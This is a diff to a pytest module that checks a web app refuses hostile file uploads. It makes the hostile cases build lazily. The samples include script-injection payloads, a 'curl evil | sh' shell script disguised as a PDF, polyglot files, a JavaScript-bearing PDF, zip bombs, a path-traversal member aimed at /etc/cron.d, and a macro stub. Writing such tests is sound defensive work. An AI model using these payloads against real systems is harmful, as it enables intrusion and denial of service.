@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import io
 import zipfile
+from collections.abc import Callable
 
 import pytest
 from PIL import Image
@@ -30,24 +31,32 @@ def zip_of(members: dict[str, bytes]) -> bytes:
     return out.getvalue()
 
 
-HOSTILE = {
-    "script renamed .pdf": ("rapport.pdf", b"<script>alert(document.cookie)</script>"),
-    "shell script renamed .pdf": ("rapport.pdf", b"#!/bin/sh\ncurl evil | sh\n"),
-    "windows executable": ("audit.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200),
-    "html page": ("page.pdf", b"<!DOCTYPE html><html><body onload=alert(1)></body></html>"),
-    "svg with script": ("logo.png", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
-    "pdf + html polyglot": ("a.pdf", sample_pdf("Audit") + b"<html><script>alert(1)</script></html>"),
-    "pdf with javascript": ("a.pdf", sample_pdf("Audit").replace(
+MIB = 1024 * 1024
+
+# Each case builds its file when it runs: the zip bombs take a second to compress, which every
+# xdist worker would otherwise pay when it collects this module.
+HOSTILE: dict[str, Callable[[], tuple[str, bytes]]] = {
+    "script renamed .pdf": lambda: ("rapport.pdf", b"<script>alert(document.cookie)</script>"),
+    "shell script renamed .pdf": lambda: ("rapport.pdf", b"#!/bin/sh\ncurl evil | sh\n"),
+    "windows executable": lambda: ("audit.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200),
+    "html page": lambda: ("page.pdf", b"<!DOCTYPE html><html><body onload=alert(1)></body></html>"),
+    "svg with script": lambda: (
+        "logo.png", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
+    "pdf + html polyglot": lambda: (
+        "a.pdf", sample_pdf("Audit") + b"<html><script>alert(1)</script></html>"),
+    "pdf with javascript": lambda: ("a.pdf", sample_pdf("Audit").replace(
         b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
-    "jpeg + zip polyglot": ("photo.jpg", jpeg() + zip_of({"evil.html": b"<script>alert(1)</script>"})),
-    "png + html polyglot": ("a.png", sample_png("x") + b"<html><script>alert(1)</script></html>"),
-    "plain zip": ("archive.docx", zip_of({"readme.txt": b"hello"})),
-    "docx zip bomb": ("bomb.docx", office("docx", {"word/media/big.bin": b"\0" * (110 * 1024 * 1024)})),
-    "xlsx zip bomb": ("bomb.xlsx", office("xlsx", {"xl/fill.xml": b"A" * (30 * 1024 * 1024)})),
-    "odt zip bomb": ("bomb.odt", office("odt", {"Pictures/big.bin": b"\0" * (110 * 1024 * 1024)})),
-    "docx path traversal member": ("trav.docx", office("docx", {"../../etc/cron.d/x": b"* * * * * x"})),
-    "docx with macros": ("macro.docx", office("docx", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
-    "empty file": ("vide.pdf", b""),
+    "jpeg + zip polyglot": lambda: (
+        "photo.jpg", jpeg() + zip_of({"evil.html": b"<script>alert(1)</script>"})),
+    "png + html polyglot": lambda: ("a.png", sample_png("x") + b"<html><script>alert(1)</script></html>"),
+    "plain zip": lambda: ("archive.docx", zip_of({"readme.txt": b"hello"})),
+    "docx zip bomb": lambda: ("bomb.docx", office("docx", {"word/media/big.bin": b"\0" * (110 * MIB)})),
+    "xlsx zip bomb": lambda: ("bomb.xlsx", office("xlsx", {"xl/fill.xml": b"A" * (30 * MIB)})),
+    "odt zip bomb": lambda: ("bomb.odt", office("odt", {"Pictures/big.bin": b"\0" * (110 * MIB)})),
+    "docx path traversal member": lambda: (
+        "trav.docx", office("docx", {"../../etc/cron.d/x": b"* * * * * x"})),
+    "docx with macros": lambda: ("macro.docx", office("docx", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
+    "empty file": lambda: ("vide.pdf", b""),
 }
 
 
@@ -56,7 +65,7 @@ def test_hostile_file_is_refused_and_leaves_nothing(case, client, login, make_do
     monkeypatch.setitem(app.config, "WTF_CSRF_ENABLED", False)
     upload = prepare_upload(make_dossier, login, client)
     rows, files = evidence_count(upload.organisation_id), stored_files()
-    filename, data = HOSTILE[case]
+    filename, data = HOSTILE[case]()
     response = upload.post(filename, data)
     body = response.get_data(as_text=True)
     assert response.status_code == 422, case
